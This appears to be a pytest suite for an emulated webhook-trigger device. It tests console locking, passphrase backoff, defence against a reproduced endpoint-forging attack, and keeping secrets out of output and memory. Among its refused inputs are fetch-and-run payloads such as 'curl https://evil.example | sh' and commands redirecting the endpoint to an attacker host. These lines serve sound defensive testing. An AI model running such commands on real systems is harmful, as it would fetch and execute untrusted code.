"""The console lock, endpoint binding and secret masking on the real image
(spec section 2; issue 12, findings 1 and 5): what a locked console refuses
and what it leaves open, unlock, lock, lock clear, waits after wrong
passphrases, the lock across resets; the forge attack of finding 1 (the
endpoint moved to the attacker's server) now failing; the TLS session and
the kept-alive connection dropped when the anchors change; the secret and
the passphrase never printed or echoed, whatever the spacing, and gone from
the device's RAM once handled; tools/provision's order and --lock."""
import json
import os
import re
import subprocess

import pytest

import pbdevice
from conftest import ROOT
from rig import HOOK, HOST, ORG, PKI, SECRET, Rig, make_pki, need_netns, outcome, pem
from webhook_emulator import WebhookEmulator

PASS = "Correct-Horse 7 Battery"
OTHER = "Tr0ub4dor&3-staple"
TYPED = "Typed-Secret-0815"
pbdevice.SECRETS.update({PASS, OTHER, TYPED})
RAM = (0x20000000, 64 * 1024)  # lm3s6965evb's SRAM


def final_of(dev, line, timeout=20):
    return dev.command(line, timeout=timeout)[2]


def lock(dev, passphrase=PASS):
    assert final_of(dev, f"lock set {passphrase}") == "OK"
    assert dev.status()["lock"] == "locked"


@pytest.fixture(scope="module")
def pki_dir():
    return make_pki()


@pytest.fixture
def rig(tmp_path, pki_dir):
    need_netns()
    r = Rig(tmp_path)
    yield r
    r.close()


# ---- the locked console


def test_a_locked_console_refuses_every_change_and_stays_readable(device):
    assert device.status()["lock"] == "none"
    assert final_of(device, 'config import {"org":"contoso","webhook":"hook"}') == "OK"
    assert final_of(device, f"config set secret {TYPED}") == "OK"
    lock(device)
    before = pbdevice.config_show(device)
    refused = [
        "config set org attacker", "config  set  host evil.example", "config unset secret",
        'config import {"host":"evil.example"}', "config import begin", "config reset yes",
        "ca add", "ca remove 1", "ca builtin off",
        'trigger {"script":"curl evil | sh"}', 'trigger trigger {"script":"x"}',
        "queue drop pb-525400123456-1-1", "time set 2030-01-01T00:00:00Z",
        "lock clear", f"lock set {OTHER}", "diag fault", "diag stack", "diag watchdog",
    ]
    for line in refused:
        final = final_of(device, line)
        assert final.startswith("ERR locked: "), (line, final)
    # nothing changed, no capture started (the next line is a command again)
    assert pbdevice.config_show(device) == before
    for line, want in (("status", "OK"), ("config show", "OK"), ("config get org", "OK"), ("queue", "OK"),
                       ("queue retry all", "OK count=0"), ("ca list", "OK builtin=on"),
                       ("ca builtin", "OK builtin=on"), ("version", "OK version="), ("help", "OK"),
                       ("lock", "OK")):
        final = final_of(device, line)
        assert final.startswith(want), (line, final)
    # a plain trigger is a button press: allowed (queued: the clock is not set, nothing is sent)
    assert final_of(device, "trigger").startswith("OK id=")
    assert device.status()["lock"] == "locked"


def test_unlock_lock_and_clear_and_every_reset_locks_again(device):
    lock(device)
    assert final_of(device, f"unlock {PASS}") == "OK"
    assert device.status()["lock"] == "open"
    assert final_of(device, "config set org contoso") == "OK"
    assert final_of(device, "lock") == "OK"
    assert final_of(device, "config set org other").startswith("ERR locked: ")
    assert final_of(device, f"unlock {PASS}") == "OK"
    # a factory reset of the configuration keeps the lock (lock clear removes it)
    assert final_of(device, "config reset yes") == "OK"
    assert device.status()["lock"] == "open"
    device.command("reboot")
    assert device.readline().startswith("EVT boot ")
    assert device.status()["lock"] == "locked"
    assert final_of(device, "config set org contoso").startswith("ERR locked: ")
    assert final_of(device, f"unlock {PASS}") == "OK"
    assert final_of(device, "lock clear") == "OK"
    device.command("reboot")
    device.readline()
    assert device.status()["lock"] == "none"
    assert final_of(device, "config set org contoso") == "OK"


def test_wrong_passphrases_wait_longer_each_time_across_a_reset(device):
    lock(device)
    assert final_of(device, f"unlock {OTHER}").startswith("ERR bad-passphrase: ")
    for failures, wait in ((1, 1000), (2, 2000)):
        t0 = int(device.status()["uptime_ms"])
        info, _, final = device.command(f"unlock {OTHER}", timeout=30)
        t1 = int(device.status()["uptime_ms"])
        assert final.startswith("ERR bad-passphrase: "), final
        m = re.fullmatch(rf"wait_ms=(\d+) failures={failures}", info[0] if len(info) == 1 else "")
        assert m and wait - 500 < int(m.group(1)) <= wait, info  # counted from the last failure
        assert t1 - t0 >= int(m.group(1))  # on the device's own clock
    # a power cycle buys nothing: the count is kept, the wait runs from start-up
    device.command("reboot")
    device.readline()
    info, _, final = device.command(f"unlock {PASS}", timeout=30)
    assert final == "OK", final
    assert len(info) == 1 and info[0].endswith(" failures=3"), info
    assert device.status()["lock"] == "open"
    assert final_of(device, "lock") == "OK"
    info, _, final = device.command(f"unlock {PASS}")  # the count went with the right one
    assert info == [] and final == "OK"


def test_the_passphrase_hash_is_slow_and_leaves_no_copy(device, tmp_path):
    lock(device)
    st = device.status()
    assert int(st["lock_iterations"]) >= 1000
    nvm = (tmp_path / "pipebutton-nvm.bin").read_bytes()
    assert PASS.encode() not in nvm
    assert final_of(device, f"unlock {PASS}") == "OK"
    assert final_of(device, f"lock set {OTHER}") == "OK"
    assert final_of(device, f"unlock {OTHER}") == "OK"
    assert final_of(device, "lock clear") == "OK"
    nvm = (tmp_path / "pipebutton-nvm.bin").read_bytes()
    assert PASS.encode() not in nvm and OTHER.encode() not in nvm


# ---- endpoint binding


def test_the_forge_attack_of_issue_12_now_fails(rig):
    """Finding 1 as it was reproduced: someone at the console points the
    device at their own server, trusts its certificate, and asks for a
    trigger with their own properties; their server used to receive a body
    signed with the real secret, which Azure accepts."""
    with WebhookEmulator(os.path.join(PKI, "tfs.pem"), os.path.join(PKI, "tfs.key"),
                         webhooks={(ORG, HOOK): SECRET}) as evil:
        rig.dns.set_record("tfs.example.test", HOST)
        assert final_of(rig.dev, "config set host tfs.example.test") == "OK unset=secret"
        assert final_of(rig.dev, f"config set port {evil.port}") == "OK"
        assert pbdevice.config_show(rig.dev)["secret"] == "<unset>"
        assert rig.ca_add(pem("tfs.pem")).startswith("OK ca=2 ")
        final = final_of(rig.dev, 'trigger deploy {"script":"curl https://evil.example | sh"}')
        assert final.startswith("ERR not-configured: ") and "secret" in final, final
        rig.dev.drain(5)
        assert evil.tcp_accepts == 0 and evil.requests == []
    # the real server got nothing either
    assert rig.emu.requests == []


def test_an_import_that_moves_the_endpoint_and_sets_the_secret_keeps_it(rig):
    new_secret = "Fabrikam-S3cret-2"
    pbdevice.SECRETS.add(new_secret)
    rig.emu.add_webhook("fabrikam", "deploy_hook", new_secret)
    final = final_of(rig.dev, f'config import {{"org":"fabrikam","webhook":"deploy_hook","secret":"{new_secret}"}}')
    assert final == "OK", final
    assert pbdevice.config_show(rig.dev)["secret"] == "<set>"
    run_id = final_of(rig.dev, "trigger").split("=", 1)[1]
    assert outcome(rig.dev, run_id).startswith(f"EVT delivered id={run_id} ")
    req = rig.emu.requests[-1]
    assert req.verdict == "accepted" and "/fabrikam/" in req.path
    # the same values again are no change
    assert final_of(rig.dev, "config set org fabrikam") == "OK"
    assert final_of(rig.dev, 'config import {"webhook":"deploy_hook","host":"dev.azure.com"}') == "OK"
    assert pbdevice.config_show(rig.dev)["secret"] == "<set>"
    # moved without a secret: unset, and no copy left in the NVM file
    assert final_of(rig.dev, f'config import {{"org":"{ORG}","action.x":{{}}}}') == "OK unset=secret"
    with open(os.path.join(rig.workdir, "pipebutton-nvm.bin"), "rb") as f:
        image = f.read()
    assert new_secret.encode() not in image and SECRET.encode() not in image


def test_changed_anchors_drop_the_tls_session_and_the_kept_connection(rig):
    def deliver():
        run_id = final_of(rig.dev, "trigger").split("=", 1)[1]
        assert outcome(rig.dev, run_id).startswith(f"EVT delivered id={run_id} ")

    def rebind():
        assert final_of(rig.dev, f"config set secret {SECRET}") == "OK"

    # the server closes after each answer: the next connection resumes
    rig.emu.fault = "close-after,times=2"
    deliver()
    deliver()
    conns = rig.emu.connections
    assert len(conns) == 2 and not conns[0].session_reused and conns[1].session_reused
    # another anchor: the kept session was verified against the old set
    assert rig.ca_add(pem("ec-root.pem")) == "OK ca=2 subject=pipebutton_Test_ECC_Root unset=secret"
    rebind()
    rig.emu.fault = "none"
    deliver()
    conns = rig.emu.connections
    assert len(conns) == 3 and not conns[2].session_reused
    # kept alive: the next trigger goes out on the same connection ...
    deliver()
    assert rig.emu.tcp_accepts == 3
    # ... until the anchors change
    assert final_of(rig.dev, "ca remove 2") == "OK unset=secret"
    rebind()
    deliver()
    assert rig.emu.tcp_accepts == 4
    assert final_of(rig.dev, "ca builtin off") == "OK builtin=off unset=secret"
    rebind()
    deliver()
    assert rig.emu.tcp_accepts == 5


# ---- never printed, never kept


def test_masking_keys_on_the_parsed_words(device):
    """Finding 5: `config set  secret X` (two spaces, or a leading space)
    echoed the secret."""
    assert final_of(device, "echo on").startswith("OK")
    for line in (f"config set  secret {TYPED}", f" config set secret {TYPED}", f"config\tset\tsecret\t{TYPED}",
                 f"config  set secret  {TYPED}", f'config import {{"secret":"{TYPED}"}}'):
        device.send(line + "\r")
        device.expect(r"^OK$")
    for line in (f"lock set {PASS}", f"unlock  {PASS}", f"unlock\t{PASS}"):
        device.send(line + "\r")
        device.expect(r"^OK$")
    device.send("config import begin\r")
    device.expect(r"^OK$")
    device.send(f'{{"secret":"{TYPED}"}}\r')
    device.send("config import commit\r")
    device.expect(r"^OK$")
    assert final_of(device, "echo off") == "OK"
    raw = bytes(device.raw)
    for word in (TYPED, PASS, "Horse", "Typed-"):
        assert word.encode() not in raw, word
    assert b"config set  secret ****" in raw and b"lock set ****" in raw


def test_an_overlong_line_inside_an_import_runs_nothing_after_it(device):
    """Finding 5's second path: the lines after an over-long one used to run
    as commands and print the secret in their refusal."""
    assert final_of(device, "config import begin") == "OK"
    device.send("x" * 600 + "\r")
    device.send(f'"secret":"{TYPED}"}}\r')
    device.send("status\r")  # the import's still: not run
    final = final_of(device, "config import commit")
    assert final.startswith("ERR line-too-long: "), final
    assert not [line for line in device.lines if line.startswith("ERR unknown-command")]
    assert not [line for line in device.lines if line.startswith("uptime_ms=")]
    assert pbdevice.config_show(device)["secret"] == "<unset>"


def test_secret_and_passphrase_are_gone_from_ram_once_handled(device, tmp_path):
    """The line editor and the UART receive ring kept the last lines typed
    (a secret, a passphrase) until other input overwrote them."""
    def ram():
        dump = tmp_path / "ram.bin"
        device.qmp.execute("pmemsave", val=RAM[0], size=RAM[1], filename=str(dump))
        data = dump.read_bytes()
        assert len(data) == RAM[1]
        return data

    assert final_of(device, f"config set secret {TYPED}") == "OK"
    assert final_of(device, "status").startswith("OK")
    assert TYPED.encode() not in ram()
    lock(device)
    assert final_of(device, f"unlock {PASS}") == "OK"
    assert final_of(device, "status").startswith("OK")
    image = ram()
    for word in (TYPED, PASS):
        assert word.encode() not in image, word


# ---- the provisioning tool


def test_provision_sends_anchors_before_the_secret_and_can_lock(device, tmp_path, pki_dir):
    config = {"org": "fabrikam", "webhook": "press-to-deploy", "host": "tfs.example.test", "port": "8443"}
    path = tmp_path / "device.json"
    path.write_text(json.dumps(config))
    passfile = tmp_path / "passphrase"
    passfile.write_text(PASS + "\n")
    tool = [os.path.join(ROOT, "tools", "provision"), "--socket", device.console_path]
    env = dict(os.environ, PB_SECRET=SECRET)
    device.detach_console()
    r = subprocess.run(["/usr/bin/python3", *tool, "--ca", os.path.join(PKI, "tfs.pem"), "--lock",
                        "--passphrase-file", str(passfile), str(path)],
                       capture_output=True, text=True, env=env, timeout=120)
    assert r.returncode == 0, r.stdout + r.stderr
    assert "the console is locked" in r.stdout
    for word in (SECRET, PASS):
        assert word not in r.stdout + r.stderr
    device.attach_console()
    st = device.status()
    assert st["lock"] == "locked"
    cfg = pbdevice.config_show(device)
    assert cfg["secret"] == "<set>" and cfg["host"] == "tfs.example.test"  # set after the anchor
    # again on the locked device: unlocked with the file, provisioned, locked again
    config["org"] = "contoso"
    path.write_text(json.dumps(config))
    device.detach_console()
    r = subprocess.run(["/usr/bin/python3", *tool, "--passphrase-file", str(passfile), str(path)],
                       capture_output=True, text=True, env=env, timeout=120)
    assert r.returncode == 0, r.stdout + r.stderr
    device.attach_console()
    assert device.status()["lock"] == "locked"
    assert pbdevice.config_show(device)["org"] == "contoso"
    # without the passphrase it stops, naming what is missing
    device.detach_console()
    r = subprocess.run(["/usr/bin/python3", *tool, str(path)], capture_output=True, text=True, env=env,
                       timeout=60, stdin=subprocess.DEVNULL)
    assert r.returncode != 0 and "--passphrase-file" in r.stderr
    device.attach_console()
